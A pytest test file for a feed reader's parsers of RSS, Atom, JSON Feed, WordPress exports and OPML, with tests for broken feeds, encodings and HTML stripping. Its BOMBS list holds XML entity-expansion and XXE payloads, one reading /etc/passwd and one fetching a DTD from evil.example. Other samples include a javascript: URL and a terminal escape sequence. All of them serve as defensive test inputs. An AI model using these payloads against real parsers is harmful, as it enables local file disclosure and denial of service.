"""Feeds of every kind, broken ones and traps: each entry an article, and what was left out is told."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tuireader.sources.formats import feed, jsonfeed, opml, reader_of
from tuireader.sources.inputs import BytesInput
from tuireader.sources.model import Draft, Options, Problem, Said
from tuireader.sources.prolog import after_prolog, root
from tuireader.sources.stripping import stripped

WHERE = "https://harbour.example/feed"
CONTENT = "xmlns:content='http://purl.org/rss/1.0/modules/content/' xmlns:dc='http://purl.org/dc/elements/1.1/'"
RSS = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" {CONTENT}><channel><title>Harbour &amp;amp; Coast</title><language>en-GB</language>
<item><guid isPermaLink="false">ferry-1</guid><title>Ferry &lt;em&gt;stops&lt;/em&gt;</title><link>/2025/ferry</link>
<pubDate>Mon, 10 Mar 2025 09:00:00 +0100</pubDate><author>desk@harbour.example (Ana Berg)</author>
<description>The ferry stopped.</description>
<content:encoded><![CDATA[<p>The ferry to Lindby stopped on Monday after the storm.</p><h2>What now</h2>
<p>Nobody knows.<br/>Not yet.</p><script>track()</script>]]></content:encoded></item>
<item><guid isPermaLink="false">ferry-1</guid><title>Ferry stops</title><description>Told again.</description></item>
<item><guid isPermaLink="false">boats</guid><title>Nine boats</title><dc:creator>Bo Lind</dc:creator>
<description>&lt;p&gt;Nine boats came in before the storm broke.&lt;/p&gt;</description></item>
<item><title>Talk</title><enclosure url="https://harbour.example/a.mp3" type="audio/mpeg" length="9"/></item>
<item><title>Nothing</title></item>
</channel></rss>"""
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de"><title type="html">K&amp;uuml;ste</title>
<entry><id>tag:k.example,2025:1</id><title>Sturm</title><link rel="alternate" href="https://k.example/1"/>
<author><name>Ida Holm</name></author><published>2025-03-10T08:15:00Z</published><updated>2025-03-11T08:15:00Z</updated>
<summary>Kurz.</summary><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Der Sturm kam in der Nacht
an die Küste.</p></div></content></entry></feed>"""
RDF = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="https://r.example/"><title>Old Coast</title></channel>
<item rdf:about="https://r.example/1"><title>Tide</title><link>https://r.example/1</link><dc:date>2025-03-10</dc:date>
<description>The tide came in higher than the year before.</description></item></rdf:RDF>"""
POST = """<item><title>{title}</title><link>https://w.example/{id}</link><dc:creator><![CDATA[ana]]></dc:creator>
<guid>https://w.example/?p={id}</guid><pubDate>Mon, 10 Mar 2025 10:00:00 +0000</pubDate>
<content:encoded><![CDATA[{text}]]></content:encoded><wp:post_id>{id}</wp:post_id>
<wp:post_date_gmt>2025-03-10 09:00:00</wp:post_date_gmt><wp:status>{status}</wp:status>
<wp:post_type>{type}</wp:post_type></item>"""


def wordpress(*posts: tuple[str, str, str]) -> str:
    rows = "".join(
        POST.format(id=id, title=f"Post {id}", status=status, type=type, text=text)
        for id, (status, type, text) in enumerate(posts)
    )
    head = f"<rss version='2.0' {CONTENT} xmlns:wp='http://wordpress.org/export/1.2/'>"
    return f"{head}<channel><title>My Coast</title>{rows}</channel></rss>"


def read(text: str | bytes, cap: int = 8_000_000, **more: str) -> tuple[list[Draft], list[str]]:
    data = text.encode() if isinstance(text, str) else text
    input = BytesInput(WHERE, data, options=Options(cap=cap), **more)
    found = list(reader_of(input).read(input))
    return (
        [each for each in found if isinstance(each, Draft)],
        [each.reason for each in found if isinstance(each, Problem)],
    )


def test_rss_with_all_that_it_says() -> None:
    (ferry, boats), told = read(RSS)
    assert ferry == Draft(
        text="The ferry to Lindby stopped on Monday after the storm.\n\nWhat now\n\nNobody knows.\nNot yet.",
        name="ferry-1",
        title=Said("Ferry stops", "RSS title"),
        source=Said("Harbour & Coast", "RSS feed title"),
        byline=Said("Ana Berg", "RSS author"),
        published=Said("2025-03-10T09:00:00+01:00", "RSS pubDate"),
        language=Said("en-GB", "RSS language"),
        url=Said("https://harbour.example/2025/ferry", "RSS link"),
        headings=((56, 64),),
        read_in="content:encoded",
    )
    assert (boats.text, boats.read_in) == ("Nine boats came in before the storm broke.", "RSS description (summary)")
    assert boats.byline == Said("Bo Lind", "RSS author")
    assert told == [
        "2 entries without a text left out, 1 of sound, film or pictures; "
        "only the summary of 1 entry of 2 stands in the feed: open the address of an article for the rest"
    ]


def test_atom() -> None:
    (storm,), told = read(ATOM)
    assert storm.text == "Der Sturm kam in der Nacht an die Küste."
    assert storm.published == Said("2025-03-10T08:15:00+00:00", "Atom published")
    assert (storm.source, storm.byline) == (Said("Küste", "Atom feed title"), Said("Ida Holm", "Atom author"))
    assert (storm.language, storm.url) == (Said("de", "Atom language"), Said("https://k.example/1", "Atom link"))
    assert (storm.name, storm.read_in, told) == ("tag:k.example,2025:1", "Atom content", [])


def test_long_texts_and_ids() -> None:
    feed = json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "items": [
                {"id": f"x\x1b]0;y\x07 {'i' * 5000}", "content_text": "Fine words."},
                {"content_text": "w " * 500},
            ],
        }
    )
    (draft,), told = read(feed, cap=400)
    assert draft.name.startswith("x iii")
    assert len(draft.name) < 330
    assert told == ["an entry is longer than the 0.0004 MB a text may have: left out"]


def test_rdf() -> None:
    (tide,), _ = read(RDF)
    assert tide.text == "The tide came in higher than the year before."
    assert tide.source == Said("Old Coast", "RSS feed title")
    assert tide.published == Said("2025-03-10", "dc:date")


def test_an_export_of_wordpress() -> None:
    classic = (
        'A storm [caption id="x" width="3"]<img src="a.png"/> The pier[/caption] came.\n\nIt went [gallery ids="1"].'
    )
    drafts, told = read(
        wordpress(
            ("publish", "post", classic),
            ("publish", "page", "<!-- wp:paragraph --><p>About us.</p><!-- /wp:paragraph -->"),
            ("draft", "post", "Not done."),
            ("publish", "nav_menu_item", "menu"),
            ("inherit", "attachment", "pier.png"),
        )
    )
    assert [draft.text for draft in drafts] == ["A storm came.\n\nIt went .", "About us."]
    assert drafts[0].published == Said("2025-03-10T09:00:00+00:00", "wp:post_date_gmt")
    assert drafts[0].byline == Said("ana", "WordPress author")
    assert told == ["1 entry of the export not published: left out"]


def test_a_json_feed() -> None:
    item = {
        "id": 7,
        "title": "Ferry stops",
        "content_html": "<p>The ferry stopped.</p><p>Nobody &amp; nothing moved.</p>",
        "summary": "It stopped.",
        "date_published": "2025-03-10T09:00:00-05:00",
        "authors": [{"name": "Ana Berg"}, {"name": "Bo Lind"}],
        "url": "https://j.example/7",
    }
    more = [{"id": "8", "summary": "Only that much."}, {"id": "9", "url": "javascript:alert(1)", "content_text": "<b>"}]
    whole = {"version": "https://jsonfeed.org/version/1.1", "title": "J", "language": "en", "items": [item, *more, 3]}
    (ferry, short, odd), told = read(json.dumps(whole).replace("/", "\\/"))
    assert ferry.text == "The ferry stopped.\n\nNobody & nothing moved."
    assert ferry.byline == Said("Ana Berg, Bo Lind", "JSON Feed authors")
    assert ferry.published == Said("2025-03-10T09:00:00-05:00", "JSON Feed date_published")
    assert (ferry.source, ferry.language) == (Said("J", "JSON Feed feed title"), Said("en", "JSON Feed feed language"))
    assert (short.text, short.read_in) == ("Only that much.", "JSON Feed summary (summary)")
    assert (odd.text, odd.url) == ("<b>", None)
    assert told == ["only the summary of 1 entry of 3 stands in the feed: open the address of an article for the rest"]


@pytest.mark.parametrize(
    "text", ['{"version": "https://jsonfeed.org/version/1", "items": [{"id"', "{" * 100_000, "[1]"]
)
def test_a_broken_json_feed_is_a_line(text: str) -> None:
    with pytest.raises(ValueError, match="JSON"):
        list(jsonfeed.read(BytesInput(WHERE, text.encode())))


def test_json_that_is_nested_too_deep_is_a_line() -> None:
    with pytest.raises(ValueError, match=r"deep|broken"):
        list(jsonfeed.read(BytesInput(WHERE, b'{"a":' * 200_000)))


@pytest.mark.parametrize(
    "broken",
    [
        RSS[: RSS.index("<item><title>Talk")] + "<item><title>cut o",
        RSS.replace("&lt;p&gt;Nine", "Fish & chips. Nine"),
        RSS.replace("<title>Nine boats</title>", "<title>Nine boats</title><b><i></b>"),
        RSS.replace("&lt;p&gt;", "&nbsp;&mdash; "),
        "\n\n  " + RSS,
        RSS.replace("Nine boats came", "Nine \x01\x0b boats came"),
        RSS.replace("</item>", "", 3).replace("</channel></rss>", ""),
        RSS.replace(" xmlns:dc='http://purl.org/dc/elements/1.1/'", ""),
        "Warning: something in PHP\n" + RSS,
    ],
)
def test_broken_feeds_are_read_as_far_as_it_goes(broken: str) -> None:
    drafts, _ = read(broken, media="application/rss+xml")
    assert [draft.text for draft in drafts if "ferry to Lindby stopped" in draft.text]
    assert [draft.text for draft in drafts if "boats came" in draft.text]


@pytest.mark.parametrize(
    ("encoding", "hint"), [("utf-16", ""), ("iso-8859-2", ""), ("cp1251", "windows-1251"), ("utf-8", "iso-8859-1")]
)
def test_encodings(encoding: str, hint: str) -> None:
    word = "Шторм" if encoding == "cp1251" else "Łódź"
    text = f'<?xml version="1.0" encoding="{encoding}"?><rss><channel><item><title>{word}</title><description>'
    data = f"{text}{word} came in the night, and nobody saw it.</description></item></channel></rss>".encode(encoding)
    (draft,), _ = read(data, charset=hint)
    assert draft.text.startswith(word)


BOMBS = [
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><rss><channel/>&b;</rss>',
    '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>',
    '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><rss/>',
    f'<!doctype rss [<!ENTITY a "{"a" * 1000}">]><rss>{"&a;" * 1000}</rss>',
    '<!-- <rss> --><!DOCTYPE rss [<!ENTITY a "b">]><rss>&a;</rss>',
    '<?pi <rss> ?><!DOCTYPE rss SYSTEM "x" [<!ENTITY a "b">]><rss>&a;</rss>',
    '<!ENTITY a "b"><rss>&a;</rss>',
]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-32"])
@pytest.mark.parametrize("bomb", BOMBS)
def test_declarations_are_refused_before_anything_is_parsed(bomb: str, encoding: str) -> None:
    with pytest.raises(ValueError, match="declares entities"):
        after_prolog(bomb.encode(encoding))


def test_feedparser_itself_reads_no_declarations_from_us() -> None:
    for bomb in BOMBS:
        with pytest.raises(ValueError, match="declares entities"):
            feed.parse(bomb.encode(), charset="", hint="", base="")
        with pytest.raises(ValueError, match="declares entities"):
            feed.parse(bomb.encode("utf-7"), charset="utf-7", hint="", base="")


def test_a_plain_doctype_is_no_trap() -> None:
    old = '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://x.example/rss-0.91.dtd">'
    (draft,), _ = read(
        f"{old}<rss version='0.91'><channel><item><description>Fine words.</description></item></channel></rss>"
    )
    assert draft.text == "Fine words."


def test_what_is_no_feed() -> None:
    for text in (
        "<html><body>rss</body></html>",
        "<p>I like <rss> feeds</p>",
        "see <rss> and <feed>",
        "<feed>me</feed>",
    ):
        assert not feed.fits(BytesInput("x", text.encode()))
    assert root(b"\xef\xbb\xbf<?xml?><atom:feed xmlns") == "feed"
    with pytest.raises(ValueError, match="no XML"):
        after_prolog(b"nothing of the kind")


def test_a_list_of_feeds() -> None:
    text = """<?xml version="1.0"?><opml version="2.0"><head><title>Mine</title></head><body>
    <outline text="News"><outline text="A &amp; B" type="rss" xmlUrl="https://a.example/feed?x=1&amp;y=2"/>
    <outline title='C' text="c" xmlurl = 'feed://c.example/rss'/><outline xmlUrl="file:///etc/passwd"/>
    <outline text="again" xmlUrl="https://a.example/feed?x=1&amp;y=2"/></outline></body>"""
    input = BytesInput("mine.opml", text.encode())
    assert opml.feeds(input) == [("https://a.example/feed?x=1&y=2", "A & B"), ("feed://c.example/rss", "C")]
    drafts, told = read(text)
    assert (drafts, told) == ([], ["is a list that names 2 feeds; name the list itself to open them"])


def test_pieces_of_html() -> None:
    assert stripped("a<p>b &lt;i&gt;<div>c</div><!-- x --> d<br><br>e<table><tr><td>f<td>g</table>").text == (
        "a\n\nb <i>\n\nc\n\nd\n\ne\n\nf g"
    )
    assert stripped("one\ntwo\n\nthree").text == "one two\n\nthree"
    assert stripped("<p>one\n\ntwo</p>").text == "one two"
    assert stripped("<pre>a\n  b</pre>").text == "a\nb"
    assert stripped("<script>unclosed").text == ""
    assert stripped("<![CDATA[words]]> and <b").text == "words and"
    assert stripped("3 < 4 and 5 > 4").text == "3 < 4 and 5 > 4"
    found = stripped("<h1>A</h1><p>b</p><h3>C d</h3>")
    assert [found.text[start:end] for start, end in found.headings] == ["A", "C d"]


@pytest.mark.parametrize(
    "piece", ["<", "<a ", "<!--", "</", "<script>", "&#", "[caption]", "\n ", "<![CDATA[", '<outline "']
)
def test_nothing_takes_long(piece: str) -> None:
    start = time.process_time()
    stripped(piece * 40_000, wordpress=True)
    opml.feeds(BytesInput("x", b"<opml>" + piece.encode() * 40_000))
    assert time.process_time() - start < 1


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="<>/!-[]&;ab p\n\"'='?", max_size=200))
def test_any_piece_of_html(markup: str) -> None:
    found = stripped(markup)
    assert "\n\n\n" not in found.text
    assert found.text == found.text.strip()
    assert all(found.text[start:end].strip() for start, end in found.headings)


@settings(max_examples=40, deadline=None)
@given(st.binary(max_size=120), st.sampled_from(["utf-8", "utf-7", "utf_16", "unicode_escape", "idna", "\x00", ""]))
def test_any_bytes_before_the_root(data: bytes, hint: str) -> None:
    try:
        text, _ = after_prolog(data + b"<rss/>", hint=hint)
    except ValueError:
        return
    assert text.startswith("<")
    assert not text.lower().startswith("<!")
